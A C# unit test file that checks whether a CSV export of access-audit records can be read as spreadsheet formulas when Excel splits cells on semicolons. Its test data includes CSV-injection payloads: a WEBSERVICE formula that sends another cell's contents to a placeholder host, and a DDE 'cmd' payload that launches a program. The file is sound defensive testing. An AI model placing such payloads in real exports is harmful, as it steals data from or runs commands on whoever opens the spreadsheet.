using PermissionLayer.Server.Features.Console;

namespace PermissionLayer.Console.Tests.Review;

/// <summary>
/// Review round 17, the CSV export. Only a cell's first character is defused, and a cell is quoted
/// only for a comma, quote or line break. A spreadsheet whose list separator is ';' (Excel in most of
/// Europe opens a .csv by it) splits an unquoted "x;=HYPERLINK(…)" into two cells, the second a
/// formula: caller-given text (a break-the-glass reason, a client id) then runs in the privacy
/// officer's spreadsheet. OWASP's CSV-injection guidance names exactly this (the separator starts a
/// new cell mid-value).
/// </summary>
public sealed class AccessCsvReviewTests17
{
    [Theory]
    [InlineData("chest pain;=WEBSERVICE(CONCAT(\"http://x.example/?\";A2))")]
    [InlineData("chest pain;=1+1")]
    [InlineData("x;+1+cmd|' /C calc'!A0")]
    [InlineData("x;@SUM(1)")]
    [InlineData("x;-2+3")]
    public void No_cell_of_a_semicolon_separated_reading_starts_a_formula(string value)
    {
        foreach (var cell in SplitBy(AccessCsv.Cell(value), ';'))
        {
            Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@', $"'{cell}' of {AccessCsv.Cell(value)} is a formula");
        }
    }

    /// <summary>One CSV line read with <paramref name="separator"/>, quotes as RFC 4180 has them.</summary>
    private static List<string> SplitBy(string line, char separator)
    {
        var cells = new List<string>();
        var cell = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < line.Length && line[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"' && cell.Length == 0)
            {
                quoted = true;
            }
            else if (c == separator)
            {
                cells.Add(cell.ToString());
                cell.Clear();
            }
            else
            {
                cell.Append(c);
            }
        }
        cells.Add(cell.ToString());
        return cells;
    }
}
